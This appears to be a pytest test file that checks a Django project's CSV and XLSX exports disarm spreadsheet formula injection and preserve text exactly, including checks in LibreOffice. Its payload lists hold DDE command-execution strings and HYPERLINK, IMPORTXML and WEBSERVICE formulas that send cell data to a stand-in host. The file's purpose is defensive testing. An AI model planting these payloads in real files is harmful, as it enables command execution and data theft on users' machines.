"""No text becomes a formula in a spreadsheet, and every text reads back as it was."""

import csv
import io
import re
import shutil
import subprocess
import zipfile

import pytest
from hypothesis import given
from hypothesis import strategies as st

from programmes.models import Commitment, Wording
from programmes.transfer.cells import disarm, rearm
from programmes.words.commitment_fields import COMMITMENT_FIELDS
from tests import factories
from tests.conftest import IS_TRIAL
from tests.transfer.plans import examined, exported

pytestmark = pytest.mark.django_db

STARTS = [
    "=",
    "+",
    "-",
    "@",
    "\t",
    "\r",
    "\n",
    "\uff1d",
    "\uff0b",
    "\uff0d",
    "\uff20",
    "'=",
    "''=",
    "==",
    "=+",
    "\t=",
]
BODIES = [
    "1+1",
    'HYPERLINK("http://198.51.100.1/?"&A1,"click")',
    "cmd|' /C calc'!A0",
    "SUM(1;2)*cmd|'/C calc'!A0",
    'IMPORTXML("http://198.51.100.1","//a")',
    "WEBSERVICE(\"http://198.51.100.1/\"&A1)",
    'DDE("cmd";"/C calc";"x")',
    "A1",
    "2+5+cmd|'/C notepad'!A1",
    "@SUM(1+9)*cmd|'/C calc'!A0",
    "ministermøde; =1+1, =2+2\t=3+3|=4+4",
    'x","=1+1',
    "x;\"=1+1\"",
]  # fmt: skip
PAYLOADS = [start + body for start in STARTS for body in BODIES]
LIVE = re.compile("[=+\\-@\t\r\n\uff1d\uff0b\uff0d\uff20]")
# Every text of the commitment's own table that is public and has no rule of its own.
TEXT_FIELDS = [field.name for field in COMMITMENT_FIELDS if field.is_prose]


@pytest.fixture
def armed():
    """A plan whose commitments hold a payload in every text field."""
    plan = factories.plan(0)
    area, track = plan.areas.get(), plan.areas.get().tracks.get()
    area.title, track.title = PAYLOADS[0], PAYLOADS[1]
    area.save()
    track.save()
    rows = Commitment.objects.bulk_create(
        Commitment(
            programme=plan, area=area, track=track, number=f"1.1.{n}", position=n, kind="recurring", recurrence="other",
            **dict.fromkeys(TEXT_FIELDS, payload[:120]),
        )
        for n, payload in enumerate(PAYLOADS, 1)
    )  # fmt: skip
    Wording.objects.bulk_create(
        Wording(commitment=row, text=payload, language="en", provenance="signed")
        for row, payload in zip(rows, PAYLOADS, strict=True)
    )
    from embassy import clock
    from programmes.actions import current

    current.refresh(rows, at=clock.now())
    return plan


def test_there_are_two_hundred_of_them(tried):
    tried(f"{len(PAYLOADS)} formula payloads in every text field of CSV and XLSX")
    assert len(set(PAYLOADS)) >= 200


@pytest.mark.parametrize("format", ["csv", "flat-xlsx", "xlsx"])
@pytest.mark.parametrize("language", ["da", "en"])
def test_they_all_read_back_equal(armed, format, language):
    preview = examined(*exported(armed, format, language=language))
    assert preview["counts"]["errors"] == 0, preview["errors"][:3]
    assert preview["changed"] == []
    assert preview["unchanged"]["commitments"] == len(PAYLOADS)


@pytest.mark.parametrize("language", ["da", "en"])
@pytest.mark.parametrize("separator", [",", ";", "\t", "|"])
def test_no_cell_of_the_csv_is_live_whichever_separator_a_program_uses(armed, language, separator):
    text = exported(armed, "csv", language=language)[1].decode("utf-8-sig")
    for quoting in (csv.QUOTE_MINIMAL, csv.QUOTE_NONE):
        for row in csv.reader(io.StringIO(text, newline=""), delimiter=separator, quoting=quoting):
            for cell in row:
                assert not LIVE.match(cell.lstrip('"')), cell


@pytest.mark.parametrize("format", ["flat-xlsx", "xlsx"])
def test_no_cell_of_the_workbook_is_a_formula(armed, format):
    with zipfile.ZipFile(io.BytesIO(exported(armed, format)[1])) as archive:
        sheets = [archive.read(name).decode() for name in archive.namelist() if "worksheets/" in name]
    assert not any(re.search(r"<f[ >]", sheet) for sheet in sheets)
    texts = [cell for sheet in sheets for cell in re.findall(r"<c [^>]*>", sheet)]
    assert all('t="inlineStr"' in cell or 's="4"' in cell or 's="5"' in cell for cell in texts)
    quoted = [cell for cell in texts if 's="3"' in cell]
    assert len(quoted) >= len(PAYLOADS)


@given(st.text())
def test_any_text_is_disarmed_and_comes_back(text):
    disarmed = disarm(text)
    assert rearm(disarmed) == text
    assert not LIVE.match(disarmed)


# LibreOffice is large, so only `make trials` asks it (Debian: apt install libreoffice-calc-nogui).
if IS_TRIAL:
    asks_libreoffice = pytest.mark.skipif(
        not shutil.which("soffice"), reason="LibreOffice is not on this machine"
    )

    @pytest.mark.trials
    @asks_libreoffice
    @pytest.mark.parametrize("format", ["csv", "flat-xlsx", "xlsx"])
    @pytest.mark.parametrize("language", ["da", "en"])
    def test_libreoffice_itself_evaluates_none_of_them(armed, format, language, tmp_path):
        name, data = exported(armed, format, language=language)
        opened = in_libreoffice(tmp_path, name, data)
        assert "table:formula=" not in opened
        assert "HYPERLINK" in opened

    @pytest.mark.trials
    @asks_libreoffice
    def test_libreoffice_would_evaluate_them_as_they_are(tmp_path):
        """So that the test above can fail."""
        opened = in_libreoffice(tmp_path, "plan.csv", b"Number,Plain title\n1.1.1,=1+1\n")
        assert "table:formula=" in opened

    def in_libreoffice(folder, name, data):
        """The file as LibreOffice understands it, as one XML text."""
        (folder / name).write_bytes(data)
        subprocess.run(  # noqa: S603
            ["soffice", "--headless", "--convert-to", "fods", "--outdir", str(folder), str(folder / name)],  # noqa: S607
            check=True, capture_output=True, timeout=180, env={"HOME": str(folder), "PATH": "/usr/bin:/bin"},
        )  # fmt: skip
        return next(folder.glob("*.fods")).read_text(encoding="utf-8")
